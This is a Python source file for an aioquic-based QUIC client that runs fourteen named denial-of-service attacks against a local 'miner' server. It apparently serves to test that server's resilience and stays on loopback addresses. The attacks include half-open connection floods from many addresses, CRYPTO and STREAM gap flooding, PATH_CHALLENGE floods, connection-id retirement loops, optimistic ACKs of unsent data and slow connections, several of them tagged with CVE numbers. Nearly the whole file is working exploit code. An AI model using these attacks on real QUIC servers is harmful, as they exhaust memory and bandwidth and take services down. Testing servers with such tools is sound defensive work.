"""A QUIC client that encrypts frames of its choice and acknowledges what it likes, on aioquic.

    peer.py ATTACK --port P [--count N] [--seed N] [--host 127.A.B.C] [--hotkey SS58]

Each attack sends at most COUNT packets, prints one line of JSON (what it sent, what came back, how often it was closed),
and then keeps its sockets until it is killed, so that what the miner holds of it can be measured. With a hotkey, which
is that of the seed of 32 x 0x08, it first proves itself as that validator. Everything stays on 127.0.0.0/8.
"""

import argparse
import base64
import contextlib
import hashlib
import json
import os
import random
import select
import signal
import socket
import ssl
import sys
import time
from collections import deque

import sr25519
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.crypto import CryptoPair
from aioquic.quic.events import HandshakeCompleted, StreamDataReceived
from aioquic.tls import Epoch
from cryptography.hazmat.primitives.serialization import Encoding

VERSION_1 = 1
PACKET = 1200
VALIDATOR_SEED = b"\x08" * 32
TIMEOUT = 10


def varint(value):
    if value < 1 << 6:
        return value.to_bytes(1, "big")
    if value < 1 << 14:
        return (value | 1 << 14).to_bytes(2, "big")
    if value < 1 << 30:
        return (value | 2 << 30).to_bytes(4, "big")
    return (value | 3 << 62).to_bytes(8, "big")


def crypto_frame(offset, data):
    return b"\x06" + varint(offset) + varint(len(data)) + data


def stream_frame(stream, offset, data, fin=False):
    return bytes([0x0E | fin]) + varint(stream) + varint(offset) + varint(len(data)) + data


def ack_frame(largest, first_range):
    return b"\x02" + varint(largest) + varint(0) + varint(0) + varint(first_range)


def new_connection_id(sequence, retire_prior_to):
    return b"\x18" + varint(sequence) + varint(retire_prior_to) + b"\x08" + os.urandom(8) + os.urandom(16)


def readable(sockets, wait):
    """Those of them that have something; `select` itself takes no more than 1,024 files."""
    poll, by_file = select.poll(), {one.fileno(): one for one in sockets}
    for file in by_file:
        poll.register(file, select.POLLIN)
    return [by_file[file] for file, _ in poll.poll(wait * 1000)]


class Tally:
    def __init__(self):
        self.packets = self.bytes = self.received = self.connections = self.closed = 0


tally = Tally()


def udp(host, port=0):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    one.bind((host, port))
    one.setblocking(False)
    return one


class Rogue:
    """One connection. What it sends by itself is TLS's; all else is `send`."""

    def __init__(self, target, host="127.0.0.1", max_data=1 << 20):
        self.target = target
        self.socket = udp(host)
        self.closed = None
        configuration = QuicConfiguration(
            is_client=True,
            alpn_protocols=["btlightning"],
            verify_mode=ssl.CERT_NONE,
            max_data=max_data,
            max_stream_data=max_data,
            idle_timeout=120,
        )
        self.quic = QuicConnection(configuration=configuration)
        self.is_ready = False
        self.answers = {}
        self.quic.connect(target, time.time())

    def flush(self):
        for datagram, _ in self.quic.datagrams_to_send(time.time()):
            self.throw(datagram)

    def throw(self, datagram, via=None):
        try:
            (via or self.socket).sendto(datagram, self.target)
        except BlockingIOError:
            time.sleep(0.001)
            return
        except OSError:
            return  # nobody listens there any more
        tally.packets += 1
        tally.bytes += len(datagram)

    def hear(self, wait=0.0):
        """Takes what came, as a client does."""
        if not readable([self.socket], wait):
            return
        for datagram in self.datagrams():
            self.take(datagram)

    def take(self, datagram):
        self.quic.receive_datagram(datagram, self.target, time.time())
        while (event := self.quic.next_event()) is not None:
            if isinstance(event, HandshakeCompleted):
                self.is_ready = True
            elif isinstance(event, StreamDataReceived):
                self.answers[event.stream_id] = self.answers.get(event.stream_id, b"") + event.data
        # The event of it comes only after a while.
        end = self.quic._close_event
        if end is not None and self.closed is None:
            self.closed = end.reason_phrase or f"code {end.error_code:#x}"
            tally.closed += 1

    def datagrams(self):
        while True:
            try:
                datagram = self.socket.recv(65536)
            except OSError:
                return
            tally.received += len(datagram)
            yield datagram

    def pump(self, until, seconds=TIMEOUT):
        end = time.time() + seconds
        while not until() and self.closed is None and time.time() < end:
            self.flush()
            self.hear(0.02)
            if (timer := self.quic.get_timer()) is not None and timer <= time.time():
                self.quic.handle_timer(time.time())
        self.flush()
        return until()

    def connect(self):
        tally.connections += 1
        # HANDSHAKE_DONE as well: from then on, nothing is owed.
        if not self.pump(lambda: self.is_ready and self.quic._handshake_confirmed):
            raise SystemExit(f"no connection to the miner: {self.closed}")
        return self

    def authenticate(self, hotkey):
        """The handshake of a validator."""
        certificate = self.quic.tls._peer_certificate.public_bytes(Encoding.DER)
        fingerprint = base64.b64encode(hashlib.blake2b(certificate, digest_size=32).digest()).decode()
        now, nonce = int(time.time()), os.urandom(16).hex()
        text = f"handshake:{hotkey}:{now}:{nonce}:{fingerprint}".encode()
        signature = base64.b64encode(sr25519.sign(sr25519.pair_from_seed(VALIDATOR_SEED), text))
        fields = [hotkey.encode(), nonce.encode(), signature]
        hotkey_, nonce_, signature_ = (b"\xd9" + bytes([len(one)]) + one for one in fields)
        payload = b"\x94" + hotkey_ + b"\xce" + now.to_bytes(4, "big") + nonce_ + signature_
        stream = self.ask(b"\x01" + len(payload).to_bytes(4, "big") + payload)
        # An acceptance holds the miner's signature, a refusal is short.
        if not self.pump(lambda: len(self.answers.get(stream, b"")) > 150):
            raise SystemExit("the miner did not accept the handshake")
        return self

    def ask(self, frame):
        stream = self.quic.get_next_available_stream_id()
        self.quic.send_stream_data(stream, frame, end_stream=True)
        self.flush()
        return stream

    def send(self, frames, via=None):
        """One packet under the connection's own keys, of which aioquic keeps no account."""
        pair = self.quic._cryptos[Epoch.ONE_RTT]
        number = self.quic._packet_number
        self.quic._packet_number += 1
        header = bytes([0x41 | pair.key_phase << 2]) + self.quic._peer_cid.cid + (number & 0xFFFF).to_bytes(2, "big")
        self.throw(pair.encrypt_packet(header, frames.ljust(4, b"\0"), number), via)


def initial(pair, dcid, scid, token, number, payload):
    """An Initial packet that fills its datagram."""
    head = b"\xc1" + VERSION_1.to_bytes(4, "big") + bytes([len(dcid)]) + dcid + bytes([len(scid)]) + scid
    head += varint(len(token)) + token
    room = PACKET - len(head) - 2 - 2 - 16
    payload = payload.ljust(room, b"\0")
    head += (0x4000 | len(payload) + 2 + 16).to_bytes(2, "big") + number.to_bytes(2, "big")
    return pair.encrypt_packet(head, payload, number)


def client_keys(dcid):
    pair = CryptoPair()
    pair.setup_initial(dcid, is_client=True, version=VERSION_1)
    return pair


def client_hello():
    """The frames of a ClientHello, and the connection id that it names."""
    quic = QuicConnection(
        configuration=QuicConfiguration(is_client=True, alpn_protocols=["btlightning"], verify_mode=ssl.CERT_NONE)
    )
    quic.connect(("127.0.0.1", 1), time.time())
    datagram = quic.datagrams_to_send(time.time())[0][0]
    at = 6 + datagram[5]
    scid = datagram[at + 1 : at + 1 + datagram[at]]
    pair = CryptoPair()
    pair.setup_initial(datagram[6:at], is_client=False, version=VERSION_1)
    # the token's length, which is 0, and the packet's
    begin = at + 1 + len(scid) + 1 + 2
    end = begin + (int.from_bytes(datagram[begin - 2 : begin], "big") & 0x3FFF)
    _, payload, _ = pair.decrypt_packet(datagram[:end], begin, 0)
    return payload.rstrip(b"\0"), scid


def address(n):
    """So many addresses, each another one, and none of them 127.0.x.x."""
    return f"127.{1 + n // 65536 % 250}.{n // 256 % 256}.{n % 256}"


class HalfOpen:
    """Newcomers that came as far as their first packet after the Retry."""

    def __init__(self, target, payload_of):
        self.target, self.payload_of = target, payload_of
        self.hello, self.scid = client_hello()

    def open(self, first, count):
        """As many at once as there are files for. @returns those that got a Retry: socket, keys, id, token"""
        waiting = {}
        for n in range(first, first + count):
            one = udp(address(n))
            dcid = os.urandom(8)
            self.throw(one, initial(client_keys(dcid), dcid, self.scid, b"", 0, self.hello))
            waiting[one] = None
        opened = []
        end = time.time() + 2
        while waiting and time.time() < end:
            for one in readable(waiting, 0.1):
                try:
                    retry = one.recv(65536)
                except OSError:
                    continue
                tally.received += len(retry)
                if retry[0] & 0xF0 != 0xF0:
                    continue
                at = 6 + retry[5]
                dcid = retry[at + 1 : at + 1 + retry[at]]
                token = retry[at + 1 + len(dcid) : -16]
                keys = client_keys(dcid)
                for number, payload in enumerate(self.payload_of(self.hello)):
                    self.throw(one, initial(keys, dcid, self.scid, token, number, payload))
                opened.append(one)
                del waiting[one]
        for one in waiting:
            one.close()
        tally.connections += len(opened)
        return opened

    def throw(self, one, datagram):
        try:
            one.sendto(datagram, self.target)
        except OSError:
            return
        tally.packets += 1
        tally.bytes += len(datagram)


# The attacks. Each takes the options.


def half_open(options, payload_of=lambda hello: [hello]):
    """Newcomers from as many addresses, who never go on. What the miner keeps of them it keeps for 10 s."""
    half = HalfOpen(options.target, payload_of)
    kept = []
    for first in range(0, options.count, 200):
        kept += half.open(first, min(200, options.count - first))
        while len(kept) > 600:
            kept.pop(0).close()
    return kept


def crypto_gaps_before_tls(options):
    """CVE-2024-1765: TLS bytes with gaps, which a newcomer may send in its first packets."""

    def gaps(_):
        for packet in range(20):
            yield b"".join(crypto_frame(10 + 2 * (180 * packet + i), b"x") for i in range(180))

    return half_open(options, gaps)


def scattered(options, frames_of):
    """COUNT packets of frames that never fit together. Nothing is heard, and so nothing acknowledged."""
    rogue = open_rogue(options)
    for n in range(options.count):
        if n % 64 == 0 and is_cut_off(rogue):
            break
        rogue.send(frames_of(n))
    return [rogue]


def is_cut_off(rogue):
    rogue.hear()
    return rogue.closed is not None


def crypto_gaps(options):
    """The same under the keys of the connection."""
    return scattered(options, lambda n: b"".join(crypto_frame(10 + 2 * (180 * n + i), b"x") for i in range(180)))


def crypto_gaps_of_many(options):
    """COUNT strangers, each with what it may send."""
    rogues = []
    for n in range(options.count):
        rogue = Rogue(options.target, address(n // 4))
        if not rogue.pump(lambda: rogue.is_ready, 2):
            continue
        tally.connections += 1
        rogues.append(rogue)
        for packet in range(75):
            rogue.send(b"".join(crypto_frame(10 + 2 * (180 * packet + i), b"x") for i in range(180)))
    for rogue in rogues:
        rogue.hear()
    return rogues


def stream_gaps(options):
    """Single bytes with gaps between them, on many streams, within what flow control allows."""

    def frames(n):
        stream = 4 * (1 + n % 100)
        first = 1 + 300 * (n // 100)
        return b"".join(stream_frame(stream, first + 2 * i, b"x") for i in range(150))

    return scattered(options, frames)


def challenges(options):
    """CVE-2023-6193: each asks for an answer, of which none is acknowledged."""
    return scattered(options, lambda n: b"".join(b"\x1a" + os.urandom(8) for _ in range(120)))


def retirements(options):
    """CVE-2024-1410: each new id retires those before it, which the peer has to say, and never hears that it was heard."""

    def frames(n):
        return b"".join(new_connection_id(i, i) for i in range(1 + 30 * n, 31 + 30 * n))

    return scattered(options, frames)


def pings_from_everywhere(options):
    """CVE-2026-12707: each packet of a connection from another port."""
    rogue = open_rogue(options)
    ports = [udp(options.host) for _ in range(200)]
    for n in range(options.count):
        rogue.send(b"\x01" + b"\x1a" + os.urandom(8), ports[n % len(ports)])
    return [rogue, ports]


def second_port(options):
    """
    CVE-2025-7054. The id that is to be retired next is given once more, which puts it among those that may be used; a packet
    from a second port makes quiche use it there. It cannot retire an id in a packet that carries it, and tries for ever.
    """
    rogues = [open_rogue(options) for _ in range(options.count)]
    other = udp(options.host)
    for rogue in rogues:
        again = new_connection_id(1, 0)
        rogue.send(new_connection_id(2, 2) + again + again)
        rogue.send(b"\x01" + bytes(1000), other)
    return [rogues, other]


def acks_of_nothing(options):
    """CVE-2025-4820: while a large answer runs, all that may have been sent is acknowledged, and none of it read."""
    rogue = open_rogue(options, max_data=1 << 40)
    rogue.ask(count_request(100_000, 65536))
    space = rogue.quic._spaces[Epoch.ONE_RTT]
    for _ in range(options.count):
        readable([rogue.socket], 0.01)
        # Of all that came only the last is looked at, for its number.
        for last in deque(rogue.datagrams(), maxlen=1):
            rogue.take(last)
        if rogue.closed is not None:
            break
        largest = space.largest_received_packet + options.ahead
        rogue.send(ack_frame(largest, largest))
    return [rogue]


def acks_ahead(options):
    """CVE-2025-4821: ranges of what was never sent are acknowledged."""
    options.ahead = 1000
    return acks_of_nothing(options)


def short_initials(options):
    """Initials whose datagrams are too small to be answered."""
    one = udp(options.host)
    hello, scid = client_hello()
    for _ in range(options.count):
        dcid = os.urandom(8)
        datagram = initial(client_keys(dcid), dcid, scid, b"", 0, hello)
        one.sendto(datagram[: random.randrange(20, PACKET)], options.target)
        tally.packets += 1
        tally.bytes += PACKET
        try:
            while True:
                tally.received += len(one.recv(65536))
        except BlockingIOError:
            pass
    time.sleep(0.2)
    try:
        while True:
            tally.received += len(one.recv(65536))
    except BlockingIOError:
        pass
    return [one]


def slow_strangers(options):
    """COUNT connections that send a byte in 5 s and never prove themselves, until the miner ends them, or for 60 s."""
    rogues = []
    for n in range(options.count):
        rogue = Rogue(options.target, address(n // 4))
        if rogue.pump(lambda: rogue.is_ready, 2):
            tally.connections += 1
            rogues.append((rogue, rogue.quic.get_next_available_stream_id()))
    end = time.time() + 60
    while time.time() < end and tally.closed < len(rogues):
        for rogue, stream in rogues:
            if rogue.closed is not None:
                continue
            with contextlib.suppress(RuntimeError):  # the miner gave the stream up
                rogue.quic.send_stream_data(stream, b"\x03")
                rogue.flush()
        again = time.time() + 5
        while time.time() < again and tally.closed < len(rogues):
            for rogue, _ in rogues:
                rogue.hear()
            time.sleep(0.1)
    return rogues


def rubbish(options):
    """Well encrypted packets of frames with numbers of all sizes: what a connection does not survive is followed by another."""
    draw = random.Random(options.seed)
    kept = []

    def number():
        return draw.choice([draw.randrange(8), draw.randrange(1 << 10), draw.randrange(1 << 20), draw.randrange(1 << 62)])

    def small():
        return draw.randrange(64)

    def some():
        return draw.randbytes(draw.randrange(20))

    makers = [
        lambda: b"\0" * draw.randrange(1, 30),
        lambda: b"\x01",
        lambda: ack_frame(number(), number()),
        lambda: ack_frame(small(), small()),
        lambda: b"\x04" + varint(4 * small()) + varint(number()) + varint(number()),
        lambda: b"\x05" + varint(4 * small()) + varint(number()),
        lambda: crypto_frame(number(), some()),
        lambda: b"\x07" + varint(5) + draw.randbytes(5),
        lambda: stream_frame(4 * small(), number(), some(), draw.random() < 0.2),
        lambda: stream_frame(4 * small(), small(), some(), draw.random() < 0.2),
        lambda: stream_frame(number(), small(), some()),
        lambda: b"\x10" + varint(number()),
        lambda: b"\x11" + varint(4 * small()) + varint(number()),
        lambda: b"\x12" + varint(number()),
        lambda: b"\x14" + varint(number()),
        lambda: b"\x15" + varint(4 * small()) + varint(number()),
        lambda: b"\x16" + varint(number()),
        lambda: new_connection_id(small(), small()),
        lambda: new_connection_id(number(), number()),
        lambda: b"\x19" + varint(number()),
        lambda: b"\x1a" + draw.randbytes(8),
        lambda: b"\x1b" + draw.randbytes(8),
        lambda: b"\x1d" + varint(0) + varint(4) + b"gone",
        lambda: b"\x1e",
        lambda: bytes([draw.randrange(0x1F, 0x40)]) + some(),
        lambda: draw.randbytes(draw.randrange(1, 60)),
    ]
    # What a connection survives is drawn more often, so that something comes before its end.
    harmless = [makers[i] for i in (0, 1, 4, 5, 9, 11, 12, 14, 15, 20)]
    sent = 0
    while sent < options.count:
        options.host = address(100_000 + tally.connections)
        rogue = open_rogue(options)
        for _ in range(60):
            if sent >= options.count or is_cut_off(rogue):
                break
            frames = [draw.choice(harmless if draw.random() < 0.93 else makers)() for _ in range(8)]
            rogue.send(b"".join(frames))
            sent += len(frames)
        rogue.socket.close()
    return kept


def open_rogue(options, **settings):
    rogue = Rogue(options.target, options.host, **settings).connect()
    if options.hotkey:
        rogue.authenticate(options.hotkey)
    return rogue


def count_request(n, size):
    """A request of the stream `count`, of so many chunks."""
    data = b"\x82\xa1n\xce" + n.to_bytes(4, "big") + b"\xa4size\xce" + size.to_bytes(4, "big")
    payload = b"\x93\xa5count" + data + b"\xce" + int(time.time()).to_bytes(4, "big")
    return b"\x03" + len(payload).to_bytes(4, "big") + payload


ATTACKS = {
    name.replace("_", "-"): attack
    for name, attack in list(globals().items())
    if attack
    in (
        half_open,
        crypto_gaps_before_tls,
        crypto_gaps,
        crypto_gaps_of_many,
        stream_gaps,
        challenges,
        retirements,
        pings_from_everywhere,
        second_port,
        acks_of_nothing,
        acks_ahead,
        short_initials,
        slow_strangers,
        rubbish,
    )
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--hotkey", default="")
    options = parser.parse_args()
    options.target = ("127.0.0.1", options.port)
    options.ahead = 0
    random.seed(options.seed)
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    kept = ATTACKS[options.attack](options)
    print(json.dumps(vars(tally)), flush=True)
    signal.pause()
    del kept


if __name__ == "__main__":
    sys.exit(main())
